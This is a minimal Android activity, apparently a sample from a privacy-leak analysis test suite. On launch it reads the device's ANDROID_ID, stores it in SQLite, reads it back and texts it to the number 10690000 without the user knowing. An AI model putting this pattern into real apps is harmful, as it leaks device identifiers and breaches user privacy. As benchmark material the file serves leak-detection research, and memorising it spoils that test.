package cn.privlens.suite.sqlite_exec;

import android.app.Activity;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SQLiteDatabase db = openOrCreateDatabase("b.db", MODE_PRIVATE, null);
        db.execSQL("insert into users values (?)", new Object[] {Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID)});
        Cursor c = db.rawQuery("select * from users", null);
        if (c.moveToFirst()) {
            SmsManager.getDefault().sendTextMessage("10690000", null, c.getString(0), null, null);
        }
        c.close();
    }
}
